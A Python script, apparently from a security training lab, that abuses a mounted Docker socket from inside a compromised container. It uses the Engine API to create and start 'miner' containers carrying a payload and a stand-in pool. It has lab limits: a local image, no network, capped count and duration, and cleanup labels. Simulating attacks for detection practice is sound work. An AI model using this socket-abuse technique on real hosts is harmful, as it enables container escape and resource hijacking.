"""The second variant of the unknown-binary exercise (MITRE T1610 Deploy
Container, T1496 Resource Hijacking): from inside a container that has the
Docker socket mounted, start new "miner" containers through the Engine API.

Run inside the compromised web container by lab/attack.sh --via-socket, after
the payload (kworker) and the stand-in pool (pool.py) were uploaded there:

    python3 deploy_miners.py --payload /tmp/.x --pool /tmp/.p.py \
        --image bulwark-lab/vulnerable-app:1.0 --count 2 --max-seconds 60

Each miner container is created from a LOCAL image (nothing is pulled), with
no network at all (NetworkMode "none": the payload and its pool talk over the
container's own loopback), the payload and pool copied in through the archive
API, and started. The containers carry the label bulwark-lab.role=miner so
that `make -C lab attack-stop` and `make -C lab stop` remove them. Lab code:
it only ever talks to the local Docker socket.
"""
import argparse
import io
import json
import socket
import sys
import tarfile

SOCKET = "/var/run/docker.sock"


def call(method, path, body=None, content_type="application/json"):
    """One HTTP/1.1 request over the Engine API socket; returns (status, body)."""
    data = b""
    if body is not None:
        data = body if isinstance(body, bytes) else json.dumps(body).encode()
    head = f"{method} {path} HTTP/1.1\r\nHost: docker\r\nConnection: close\r\n"
    if body is not None:
        head += f"Content-Type: {content_type}\r\nContent-Length: {len(data)}\r\n"
    sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    sock.settimeout(30)
    sock.connect(SOCKET)
    sock.sendall(head.encode() + b"\r\n" + data)
    reply = b""
    while True:
        chunk = sock.recv(65536)
        if not chunk:
            break
        reply += chunk
    sock.close()
    header, _, payload = reply.partition(b"\r\n\r\n")
    status = int(header.split(b" ", 2)[1])
    if b"transfer-encoding: chunked" in header.lower():
        payload = dechunk(payload)
    return status, payload


def dechunk(data):
    out = b""
    while data:
        size_line, _, rest = data.partition(b"\r\n")
        size = int(size_line.split(b";")[0] or b"0", 16)
        if size == 0:
            break
        out += rest[:size]
        data = rest[size + 2:]
    return out


def archive(files):
    """A tar with each (name, path on this container, mode)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as tar:
        for name, path, mode in files:
            with open(path, "rb") as f:
                content = f.read()
            info = tarfile.TarInfo(name)
            info.size = len(content)
            info.mode = mode
            tar.addfile(info, io.BytesIO(content))
    return buf.getvalue()


def deploy(index, args, files):
    name = f"bulwark-lab-miner-{index}"
    # The payload detaches from its parent; the shell (PID 1) then waits for
    # the pool, whose life is bounded, so that the container stays up.
    command = (f"python3 /opt/pool.py --port 3333 --max-seconds {args.max_seconds + 30} "
               f"--log /tmp/pool.log & sleep 1; /opt/kworker --pool-port 3333 --max-seconds {args.max_seconds}; wait")
    spec = {"Image": args.image, "Cmd": ["sh", "-c", command],
            "Labels": {"bulwark-lab.role": "miner"},
            "HostConfig": {"NetworkMode": "none", "AutoRemove": False}}
    status, body = call("POST", f"/v1.41/containers/create?name={name}", spec)
    if status != 201:
        raise SystemExit(f"create {name}: HTTP {status}: {body[:200]!r}")
    cid = json.loads(body)["Id"]
    status, body = call("PUT", f"/v1.41/containers/{cid}/archive?path=/opt", files, "application/x-tar")
    if status != 200:
        raise SystemExit(f"copy into {name}: HTTP {status}: {body[:200]!r}")
    status, body = call("POST", f"/v1.41/containers/{cid}/start")
    if status not in (204, 304):
        raise SystemExit(f"start {name}: HTTP {status}: {body[:200]!r}")
    print(f"started {name} {cid[:12]} from {args.image}")


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("--payload", required=True)
    parser.add_argument("--pool", required=True)
    parser.add_argument("--image", required=True)
    parser.add_argument("--count", type=int, default=2)
    parser.add_argument("--max-seconds", type=int, default=60)
    args = parser.parse_args()
    args.count = max(1, min(args.count, 5))
    args.max_seconds = max(1, min(args.max_seconds, 600))
    status, body = call("GET", "/version")
    if status != 200:
        raise SystemExit(f"the Docker socket did not answer: HTTP {status}")
    print("engine " + json.loads(body).get("Version", "?"))
    files = archive([("kworker", args.payload, 0o755), ("pool.py", args.pool, 0o644)])
    for index in range(1, args.count + 1):
        deploy(index, args, files)
    return 0


if __name__ == "__main__":
    sys.exit(main())
